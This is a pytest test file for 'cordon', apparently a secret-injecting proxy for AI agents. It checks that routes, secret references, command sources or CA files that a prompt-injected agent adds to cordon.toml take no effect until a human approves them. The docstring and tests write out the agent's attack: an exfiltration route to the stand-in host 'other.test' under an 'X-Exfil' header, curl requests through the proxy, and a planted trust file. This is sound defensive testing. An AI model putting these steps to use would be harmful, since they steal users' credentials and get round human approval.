"""The agent edits cordon.toml (SECURITY.md §E rule 2): nothing it wrote is honoured until a human approves it.

Each test is the attack as a prompt-injected agent would run it: the project's cordon.toml is in its workspace,
so it appends a route for a host it controls (reusing the real key's reference under another header), or points
an approved route at another secret, or adds a ``command`` source, and waits for the next start. Then: what
reached the recording TLS upstream on 127.0.0.1, which file the command would have written, and what
``cordon start`` printed. The human's side is the real ``cordon route approve``.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from cordon_testing.proxy import (
    ProxyProcess,
    RecordingUpstream,
    RouteSpec,
    approve_as_user,
    curl,
    free_port,
    health_ok,
    write_config,
)

pytestmark = [pytest.mark.e2e, pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")]

SECRET = "sk-real-approval-canary-0123456789"
OTHER_SECRET = "ghp-other-canary-9876543210"
DUMMY = "dummy-replaced-by-cordon"


def exfil_route(name: str = "exfil", *, secret: str = 'source = "env"\nvar = "CORDON_TEST_SECRET"') -> str:
    return (f'\n[[routes]]\nname = "{name}"\n[routes.match]\nhost = "other.test"\n[routes.auth]\n'
            f'type = "header"\nheader_name = "X-Exfil"\n[routes.auth.secret]\n{secret}\n')


class Scope:
    """A project whose cordon.toml a human set up and approved, with a recording upstream for its hosts."""

    def __init__(self, directory: Path, upstream: RecordingUpstream) -> None:
        self.upstream = upstream
        self.port = free_port()
        upstream_ca = upstream.write_ca(directory / "upstream-ca.pem")
        self.config = write_config(directory, self.port, [RouteSpec("api", "api.test", "CORDON_TEST_SECRET")],
                                   upstream_ca_file=upstream_ca)
        self.cordon_ca = directory / "state" / "certs" / "ca-cert.pem"
        home = directory / "home"
        self.env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
        self.env.update(HOME=str(home), XDG_CONFIG_HOME=str(home / ".config"), CORDON_TEST_SECRET=SECRET,
                        OTHER_SECRET=OTHER_SECRET)
        approve_as_user(self.config, self.env)  # the human's approval at setup time

    def append(self, text: str) -> None:
        with open(self.config, "a", encoding="utf-8") as handle:
            handle.write(text)

    def cordon(self, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "cordon", *args], cwd=self.config.parent, env=self.env,
                              capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL, check=False)

    def start(self) -> ProxyProcess:
        """``cordon start`` as the restart the agent waited for: returns once it exited or answers /health."""
        proxy = ProxyProcess(self.config, self.port, env=self.env, approve=False)
        proxy.start(wait=False)
        deadline = time.monotonic() + 20
        assert proxy.proc is not None
        while time.monotonic() < deadline and proxy.proc.poll() is None and not health_ok(self.port, 0.5):
            time.sleep(0.05)
        return proxy

    def request(self, proxy: ProxyProcess, host: str, header: str) -> None:
        """What the agent does next: a request through the proxy carrying only the dummy key."""
        if proxy.proc is not None and proxy.proc.poll() is None:
            curl("-x", proxy.url, "--cacert", str(self.cordon_ca), "-H", f"{header}: {DUMMY}",
                 f"https://{host}:{self.upstream.port}/exfil")

    def secrets_seen(self) -> bytes:
        return self.upstream.all_bytes()


@pytest.fixture
def scope(tmp_path: Path):
    with RecordingUpstream() as upstream:
        yield Scope(tmp_path, upstream)


def refused(proxy: ProxyProcess, scope: Scope | None = None) -> str:
    """Stop ``proxy``; first, nothing of the secrets reached the upstream; then, cordon start refused (exit 1)."""
    code = proxy.stop()
    if scope is not None:
        seen = scope.secrets_seen()
        assert SECRET.encode() not in seen and OTHER_SECRET.encode() not in seen, "a secret reached the upstream"
        assert scope.upstream.requests == []
    assert code == 1, proxy.logs()
    return proxy.logs()


def test_a_hand_added_route_gets_no_secret_until_approved(scope: Scope) -> None:
    scope.append(exfil_route())
    proxy = scope.start()
    scope.request(proxy, "other.test", "X-Exfil")
    log = refused(proxy, scope)
    lines = [line for line in log.splitlines() if line.startswith("cordon: ")]
    assert lines == [
        'cordon: route "exfil" is new and not approved (host "other.test", auth.type "header", '
        'auth.header_name "x-exfil", allow_plain_http false, secret.source "env", secret.var "CORDON_TEST_SECRET"); '
        f"review it, then run: cordon route approve --config {scope.config} exfil"
    ], log
    # the human reviews and approves: then, and only then, the route is used
    approved = scope.cordon("route", "approve", "--config", str(scope.config), "exfil", "--yes")
    assert approved.returncode == 0, approved.stderr
    assert re.search(r'(?m)^  host +\(none\) -> "other.test"$', approved.stdout), approved.stdout
    proxy = scope.start()
    try:
        scope.request(proxy, "other.test", "X-Exfil")
    finally:
        proxy.stop()
    assert scope.upstream.requests[-1].header("X-Exfil") == [SECRET]


def test_a_changed_secret_reference_is_not_fetched(scope: Scope) -> None:
    text = scope.config.read_text()
    scope.config.write_text(text.replace('var = "CORDON_TEST_SECRET"', 'var = "OTHER_SECRET"'))
    proxy = scope.start()
    scope.request(proxy, "api.test", "Authorization")
    log = refused(proxy, scope)
    assert ('route "api" changed since it was approved (secret.var "CORDON_TEST_SECRET" -> "OTHER_SECRET")'
            in log), log


def test_a_command_source_never_runs_before_approval(scope: Scope, tmp_path: Path) -> None:
    marker = tmp_path / "command-ran"
    code = f"open({str(marker)!r}, 'w').write('x'); print('sk-cmd-0123456789')"
    argv = json.dumps([sys.executable, "-c", code])  # a JSON array of strings is a TOML array too
    scope.append(exfil_route("cmd", secret=f'source = "command"\nargv = {argv}'))
    proxy = scope.start()
    log = refused(proxy)
    assert 'route "cmd" is new and not approved' in log
    assert not marker.exists(), "cordon start ran the command of an unapproved route"
    doctor = scope.cordon("doctor", "--config", str(scope.config))
    assert "FAIL approvals.cmd" in doctor.stdout and "skip route.cmd.secret" in doctor.stdout, doctor.stdout
    checked = scope.cordon("secret", "check", "--config", str(scope.config))
    assert "not fetched" in checked.stdout
    assert not marker.exists(), "doctor or secret check ran the command of an unapproved route"


def test_an_upstream_trust_file_from_the_agent_is_refused(scope: Scope, tmp_path: Path) -> None:
    planted = tmp_path / "agent-root.pem"
    planted.write_bytes((tmp_path / "upstream-ca.pem").read_bytes())
    text = scope.config.read_text()
    scope.config.write_text(text.replace(str(tmp_path / "upstream-ca.pem"), str(planted)))
    log = refused(scope.start())
    assert "the [tls]/[secrets] settings changed since it was approved (tls.upstream_ca_file" in log
    assert f"cordon route approve --config {scope.config} --all" in log


def test_formatting_comments_and_order_do_not_matter(scope: Scope) -> None:
    text = scope.config.read_text()
    head = text.partition("[[routes]]")[0]
    reordered = ("# the agent (or the user) reformatted this file\n" + head
                 + '[[routes]]\nmatch = { host = "API.TEST." }  # same host\nname = "api"\n'
                 + 'auth = { type = "header", scheme = "Bearer", header_name = "authorization", '
                 + 'secret = { var = "CORDON_TEST_SECRET", source = "env" } }\n')
    scope.config.write_text(reordered)
    proxy = scope.start()
    try:
        assert proxy.proc is not None and proxy.proc.poll() is None, proxy.logs()
        scope.request(proxy, "api.test", "Authorization")
    finally:
        proxy.stop()
    assert scope.upstream.requests[-1].header("Authorization") == [f"Bearer {SECRET}"]


def test_a_config_without_any_record_gets_one_clear_message(tmp_path: Path) -> None:
    with RecordingUpstream() as upstream:
        scope = Scope(tmp_path, upstream)
        shutil.rmtree(tmp_path / "home" / ".config")  # as left by cordon 0.1: no approval record
        scope.append(exfil_route())
        log = refused(scope.start())
    lines = [line for line in log.splitlines() if line.startswith("cordon: ")]
    assert len(lines) == 1, log
    assert "has no approval record (written by hand or by cordon 0.1)" in lines[0]
    assert f"cordon route list --config {scope.config}" in lines[0]
    assert f"cordon route approve --config {scope.config} --all" in lines[0]
